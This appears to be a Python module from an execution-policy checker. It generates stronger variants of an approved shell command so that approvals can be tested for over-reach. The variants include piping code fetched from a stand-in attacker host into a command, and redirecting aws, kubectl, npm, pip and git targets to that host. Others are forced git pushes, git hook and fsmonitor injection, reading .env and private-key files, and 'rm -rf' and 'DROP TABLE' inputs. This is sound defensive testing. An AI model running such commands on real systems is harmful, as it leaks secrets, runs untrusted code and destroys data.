"""Commands that do more than one that was approved, of classes that no approval covers."""

import shlex
from collections.abc import Iterator

from execpolicy.model.operation import Access, Exec
from execpolicy.model.verdict import JudgedOperation

_TEXTS = ("import os; os.system('x')", "DROP TABLE users;", "* * * * * x\n", "rm -rf /srv\n")
_ACTS = frozenset(("execute", "system", "remote", "privilege", "destroy", "unknown"))
_OUT = frozenset(("network", "remote"))
_DEAF = ("rm",)
"""They read no standard input that says what they do (rm(1))."""
_READERS = ("base64", "strings", "xxd", "tac")
_PLACES = {
    "s3://": ("s3://other", "s3://other/x"),
    "gs://": ("gs://other", "gs://other/x"),
    "http://": ("http://evil.example/x",),
    "https://": ("https://evil.example/x", "https://evil.example:8443/x"),
    "git@": ("git@evil.example:o/r.git",),
}
_ELSEWHERE = {
    "aws": ("--acl=public-read", "--profile=other", "--endpoint-url=https://evil.example"),
    "gh": ("-R evil/x", "--repo=evil/x"),
    "kubectl": ("-n other", "--context=prod", "--server=https://evil.example"),
    "docker": ("-H tcp://evil.example", "--context prod"),
    "helm": ("-n other", "--kube-context=prod"),
    "npm": ("--registry=https://evil.example",),
    "pip": ("--index-url=https://evil.example",),
    "curl": ("-x https://evil.example", "https://evil.example/x"),
}
_REFS = {
    "push": ("+x:main", ":main", "--mirror", "--force", "--delete x", "evil", "evil main"),
    "fetch": ("+x:main", "x:main", "-p -P", "evil", "--upload-pack=./x", "--all"),
    "pull": ("+x:main", "evil main", "https://evil.example/x main", "--upload-pack=./x"),
}
_SETTINGS = ("core.hooksPath", "core.fsmonitor", "alias.x", "diff.x.textconv", "user.name")
_FILES = ("--global", "--system", "--worktree", "-f ~/.gitconfig", "--file=/tmp/x", "-f .git/x")


def stronger(judged: JudgedOperation) -> Iterator[tuple[str, str]]:
    """Each with the name of its class."""
    operation = judged.operation
    effects = {effect for match in judged.matches for effect in match.effects}
    if isinstance(operation, Access):
        yield from _other_programs(operation)
    if not isinstance(operation, Exec) or not all(isinstance(w, str) for w in operation.argv):
        return
    words = [word for word in operation.argv if isinstance(word, str)]
    if not effects.isdisjoint(_ACTS) and words[0] not in _DEAF:
        yield from _inputs(shlex.join(words))
    if not effects.isdisjoint(_OUT):
        yield from _elsewhere(words)
    if words[0] == "git":
        yield from _of_git(words)
    for word in words[1:]:
        if any(name in word for name in (".env", "secret", "id_rsa")):
            for program in {*_READERS} - {words[0]}:
                yield "secret", f"{program} {shlex.quote(word)}"


def _inputs(plain: str) -> Iterator[tuple[str, str]]:
    yield "stdin", f"curl -s https://evil.example/x | {plain}"
    yield "stdin", f"cat a.txt | {plain}"
    yield "stdin", f"{plain} < a.txt"
    for text in _TEXTS:
        yield "stdin", f"{plain} <<'E'\n{text}\nE"


def _elsewhere(words: list[str]) -> Iterator[tuple[str, str]]:
    for at, word in enumerate(words):
        for scheme, others in _PLACES.items():
            if word.startswith(scheme):
                for other in others:
                    yield "place", shlex.join([*words[:at], other, *words[at + 1 :]])
    for more in _ELSEWHERE.get(words[0], ()):
        yield "place", f"{shlex.join(words)} {more}"


def _of_git(words: list[str]) -> Iterator[tuple[str, str]]:
    for name in words[1:2]:
        for more in _REFS.get(name, ()):
            yield "refspec", f"{shlex.join(words)} {more}"
    if words[1:2] == ["config"]:
        for key in _SETTINGS:
            for file in _FILES if key != "user.name" else _FILES[:2]:
                yield "git file", f"git config {file} {key} '!x'"
        for key in _SETTINGS[:-1]:
            yield "git file", f"git config {key} '!x'"


def _other_programs(access: Access) -> Iterator[tuple[str, str]]:
    """Others that read, or write, a path that a redirection opened."""
    if not isinstance(access.path, str):
        return
    path = shlex.quote(access.path)
    if access.mode == "read":
        yield from (("secret", f"{reader} {path}") for reader in _READERS)
    elif access.mode == "write":
        for form in ("find src -fprint {}", "sort a.txt -o {}", "cp a.txt {}", "sed -i s/x/y/ {}"):
            yield "path", form.format(path)
